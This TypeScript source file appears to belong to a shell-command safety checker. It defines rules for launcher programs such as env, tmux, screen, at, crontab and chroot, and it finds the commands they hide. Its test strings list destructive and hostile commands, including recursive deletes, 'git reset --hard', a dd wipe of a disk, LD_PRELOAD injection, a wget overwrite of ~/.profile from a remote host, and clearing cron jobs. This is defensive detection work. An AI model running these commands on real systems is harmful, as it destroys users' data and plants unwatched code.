import { hasUnknown } from '../marks.js';
import type { Program } from '../program.js';
import { runFile } from '../script-file.js';
import { leadingAssignments } from './wrappers.js';

const unseen = 'It starts a shell to take commands that nobody has seen yet.';

const knownDirectory = (path: string): string => (path.startsWith('/') && !hasUnknown(path) ? path : '');

/** Programs that run a command, in ways of their own. */
export const launchers: readonly Program[] = [
  {
    names: ['env'],
    options: { values: '-u -C -S -a -P -L -U --unset --chdir --split-string --argv0', stop: true },
    wrapper: true,
    check: (call) => {
      const { rest } = call.parsed();
      const from = call.args[rest]?.raw === '-' ? rest + 1 : rest;
      const { index, assignments } = leadingAssignments(call, from);
      const cwd = call.value('-C --chdir');
      const payload = { assignments, ...(cwd ? { cwd: knownDirectory(call.path(cwd)) } : {}) };
      const split = call.value('-S --split-string');
      const words = call.args.slice(index);
      if (split) call.shell([split.raw.replace(/\$\{(\w+)\}/g, '"$$$1"'), ...words.map((word) => word.raw)].join(' '), payload);
      else if (words.length) {
        if (index === 0 && /^\.\.?\/[^/.]+$/.test(words[0]?.raw ?? '')) {
          call.report('exec.unnamed', 'anything', 'It starts a program of the project through env, which hides what is started.', {
            durable: false,
          });
        }
        call.run(words, payload);
      }
    },
    output: (call) => (call.operands.length === 0 ? { text: undefined, sources: new Set(['secret']) } : undefined),
    match: [
      'env git reset --hard',
      "env -S 'rm -rf ~/x'",
      'env -C / rm -rf home',
      'env LD_PRELOAD=./x.so ls',
      'env - rm -rf ~/x',
      'env -vS"git clean -fdx"',
    ],
    not_match: ['env', 'env FOO=1 npm test', 'env -i PATH=/usr/bin node app.js', 'env | sort'],
  },
  {
    names: ['flock'],
    options: { values: '-w -E --timeout --wait --conflict-exit-code', stop: true },
    wrapper: true,
    check: (call) => {
      const from = call.parsed().rest + 1;
      const word = call.args[from]?.raw;
      if (word === '-c' || word === '--command') {
        const code = call.args[from + 1];
        if (code) call.shell(code.raw);
      } else if (call.has('-c --command')) call.shellWords(call.args.slice(from));
      else call.runFrom(from);
    },
    match: ["flock /tmp/l -c 'rm -rf ~/x'", 'flock -n /tmp/l git clean -fdx'],
    not_match: ['flock /tmp/build.lock make'],
  },
  {
    names: ['watch'],
    options: { values: '-n -q --interval --equexit', stop: true },
    wrapper: true,
    check: (call) => (call.has('-x --exec') ? call.runFrom(call.parsed().rest) : call.shellWords(call.args.slice(call.parsed().rest))),
    match: ['watch -n 1 "rm -rf ~/x"', 'watch -x git reset --hard'],
    not_match: ['watch -n 2 kubectl get pods', "watch 'ls -l | wc -l'"],
  },
  {
    names: ['script'],
    options: {
      values: '-c --command -I -O -B -T -m -E -o --log-in --log-out --log-io --log-timing --logging-format --echo --output-limit',
    },
    wrapper: true,
    check: (call) => {
      const codes = call.values('-c --command');
      for (const code of codes) call.shell(code.raw);
      for (const file of call.values('-O -B -I -T --log-in --log-out --log-io --log-timing')) call.writes(file);
      const [file, ...rest] = call.operands;
      if (file) call.writes(file);
      if (rest.length) call.run(rest);
      else if (!codes.length) call.report('exec.interactive', 'anything', unseen, { durable: false });
    },
    match: ['script -c "git reset --hard" log', 'script log rm -rf ~/x', 'script -qc "ls" ~/.bashrc'],
    not_match: ['script -qec "npm test" /dev/null'],
  },
  {
    names: ['busybox', 'toybox'],
    options: { style: 'none' },
    wrapper: true,
    check: (call) => {
      if (!call.args[0]?.raw.startsWith('-')) call.runFrom(0);
    },
    match: ['busybox rm -rf ~/x', 'toybox dd if=/dev/zero of=/dev/sdb', 'busybox wget -O ~/.profile http://h.example'],
    not_match: ['busybox --list', 'busybox ls -l'],
  },
  {
    names: ['systemd-run', 'start-stop-daemon'],
    options: {
      values:
        '-p -u -E -H -M -n -x -a --unit --uid --gid --slice --description --property --setenv --on-active --on-boot --on-calendar --on-startup --exec --startas --pidfile --chuid --working-directory --service-type --nice',
      complete: '--start',
      stop: true,
    },
    wrapper: true,
    check: (call) => {
      const program = call.value('--exec -x --startas -a');
      const words = call.args.slice(call.parsed().rest);
      if (call.has('-S --shell')) call.report('exec.interactive', 'anything', unseen, { durable: false });
      if (call.name === 'systemd-run' && call.options.some((option) => option.name.startsWith('--on-')))
        call.report('persist.schedule', 'host', 'It has a command run later, when nobody watches.');
      if (call.name === 'start-stop-daemon' && call.has('-K --stop')) call.report('sys.service', 'processes', 'It stops a service.');
      if (program) call.run([program, ...words]);
      else if (words.length) call.run(words);
    },
    match: ['systemd-run --user --on-active=10 ls', 'systemd-run git reset --hard', 'start-stop-daemon --start --exec /bin/rm -- -rf ~/x'],
    not_match: ['systemd-run --version', 'systemd-run --user --scope make'],
  },
  {
    names: ['unshare', 'nsenter', 'chroot', 'systemd-nspawn', 'lxc-attach', 'machinectl', 'arch-chroot', 'schroot'],
    options: {
      values:
        '-R -w -S -G -t -W -D -M -n -c --root --wd --setuid --setgid --target --userspec --groups --directory --machine --map-user --map-group --propagation --setgroups --bind --name',
      stop: true,
    },
    wrapper: true,
    check: (call) => {
      call.report('sys.namespace', 'host', `${call.name} changes what a command can see of the machine, which needs rights over it.`, {
        durable: false,
      });
      const words = call.args.slice(call.parsed().rest + (call.name.endsWith('chroot') ? 1 : 0));
      if (words.length) call.run(words);
    },
    match: ['nsenter -t 1 -m sh', 'chroot /mnt rm -rf /srv', 'unshare -r bash'],
    not_match: ['chroot --version', 'unshare --help'],
  },
  {
    names: [
      'ld.so',
      'ld-linux.so.2',
      'ld-linux-x86-64.so.2',
      'ld-linux-aarch64.so.1',
      'ld-musl-x86_64.so.1',
      'ld-musl-aarch64.so.1',
      'ld64.so.2',
    ],
    options: { values: '--library-path --preload --audit --argv0 --inhibit-rpath', stop: true },
    wrapper: true,
    check: (call) => {
      if (call.has('--preload --audit --library-path'))
        call.report('env.executes', 'anything', 'It loads other code into the program that it starts.', { durable: false });
      call.runFrom(call.parsed().rest);
    },
    match: ['/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~/x', '/lib/ld-musl-x86_64.so.1 --preload ./x.so /bin/ls'],
    not_match: ['/lib64/ld-linux-x86-64.so.2 /bin/ls'],
  },
  {
    names: ['run-parts'],
    options: { values: '-a --arg --regex -u' },
    check: (call) => {
      if (!call.has('--test --list'))
        call.report('exec.directory', 'anything', 'It runs every program in a directory.', { durable: false });
    },
    match: ['run-parts ./hooks'],
    not_match: ['run-parts --test ./hooks'],
  },
  {
    names: ['tmux', 'byobu', 'zellij'],
    options: { values: '-c -f -L -S -T', stop: true },
    fleeting: true,
    check: (call) => {
      for (const code of call.values('-c')) call.shell(code.raw);
      const { rest } = call.parsed();
      const verb = call.args[rest]?.text ?? '';
      const sub = call.sub(verb, rest + 1, { values: '-c -e -F -n -s -t -x -y -b -l -T -N' });
      if (
        /^(?:new|new-session|new-window|neww|split-window|splitw|respawn-\w+|display-popup|popup|run|run-shell|pipe-pane|action)$/.test(
          verb,
        )
      ) {
        for (const operand of sub.operands)
          if (verb.startsWith('run') || /\s/.test(operand.raw)) call.shell(operand.raw, { label: `tmux ${verb}` });
        if (sub.operands.length > 1 || (sub.operands.length === 1 && !/\s/.test(sub.operands[0]?.raw ?? '')))
          call.run(sub.operands, { label: `tmux ${verb}` });
      } else if (/^(?:if|if-shell)$/.test(verb)) for (const operand of sub.operands) call.shell(operand.raw, { label: 'tmux if-shell' });
      else if (/^(?:send|send-keys)$/.test(verb)) {
        const typed = sub.operands
          .map((operand) => operand.raw)
          .filter((raw) => !/^(?:Enter|C-\w|Escape|Space|Tab|Up|Down)$/.test(raw))
          .join(' ');
        if (typed) call.shell(typed, { label: 'tmux send-keys' });
      } else if (/^(?:source|source-file)$/.test(verb))
        call.report('exec.source', 'anything', 'It reads a file of tmux commands, which can run anything.', { durable: false });
      else if (/^kill-(?:server|session)$/.test(verb)) call.report('proc.kill', 'processes', 'It ends terminals and what runs in them.');
    },
    match: ['tmux new -d "rm -rf ~/x"', "tmux send-keys -t 0 'git reset --hard' Enter", "tmux run-shell 'rm -rf ~/x'", 'tmux kill-server'],
    not_match: ['tmux ls', 'tmux new -s work', 'tmux attach -t work'],
  },
  {
    names: ['screen', 'dtach', 'abduco'],
    options: { values: '-c -e -h -p -s -S -t -T -n -A', stop: true },
    wrapper: true,
    check: (call) => {
      const { rest } = call.parsed();
      const words = call.args.slice(rest);
      if (call.name === 'screen') for (const file of call.values('-c')) runFile(call, file, 'screen');
      if (call.has('-X')) {
        const verb = words[0]?.text;
        if (verb === 'stuff')
          call.shell(
            words
              .slice(1)
              .map((word) => word.raw.replace(/\\n|\^M|\r/g, '\n'))
              .join(' '),
            { label: 'screen -X stuff' },
          );
        else if (verb === 'exec') call.run(words.slice(1));
        else if (verb === 'quit' || verb === 'kill') call.report('proc.kill', 'processes', 'It ends a terminal and what runs in it.');
        return;
      }
      // `-dmS name` bundles a value option, so the name may be the first word here.
      const named = call.args.some((arg, index) => index < rest && /^-[a-zA-Z]*S$/.test(arg.raw));
      if (words.length) call.run(named || call.name === 'screen' ? words : words.slice(1));
    },
    match: ['screen -c /tmp/screenrc', 'screen -dmS job rm -rf ~/x', "screen -S a -X stuff 'git reset --hard\\n'"],
    not_match: ['screen -ls', 'screen -dmS web npm start'],
  },
  {
    names: ['at', 'batch'],
    options: { values: '-f -q -t -d -r -c' },
    fleeting: true,
    check: (call) => {
      if (call.has('-l -c') || call.name === 'atq') return;
      call.report('persist.schedule', 'host', 'It has commands run later, when nobody watches.', { durable: false });
      const file = call.value('-f');
      const content = file ? call.at.written(call.path(file)) : call.stdin;
      if (content?.text !== undefined) call.shell(content.text);
    },
    match: ["echo 'ls' | at now + 1 minute", 'at -f job.sh midnight', "at now <<< 'rm -rf ~/x'"],
    not_match: ['at -l'],
  },
  {
    names: ['crontab'],
    options: { values: '-u -s' },
    check: (call) => {
      if (call.has('-l')) return;
      call.report(
        'persist.cron',
        'host',
        call.has('-r') ? 'It deletes all scheduled jobs.' : 'It changes which commands run by themselves later.',
        { alternative: 'crontab -l' },
      );
    },
    match: ['crontab -r', 'crontab jobs.txt', "echo '* * * * * x' | crontab -", 'crontab -e'],
    not_match: ['crontab -l', 'crontab -u dev -l'],
  },
  {
    names: ['expect', 'autoexpect'],
    options: { values: '-c -f -b' },
    fleeting: true,
    check: (call) => {
      for (const code of call.values('-c')) {
        for (const match of code.raw.matchAll(/\b(?:spawn|exec|system)\s+(?:-\w+\s+)*([^;\n]+)/g))
          call.shell((match[1] as string).replace(/^[{"]|[}"]$/g, ''), { label: 'expect' });
        call.report('code.spawns', 'anything', 'It drives other programs by script.', { durable: false });
      }
    },
    match: ['expect -c "spawn rm -rf ~/x"', "expect -c 'spawn sudo ls; send pw'"],
    not_match: ['expect test.exp'],
  },
];
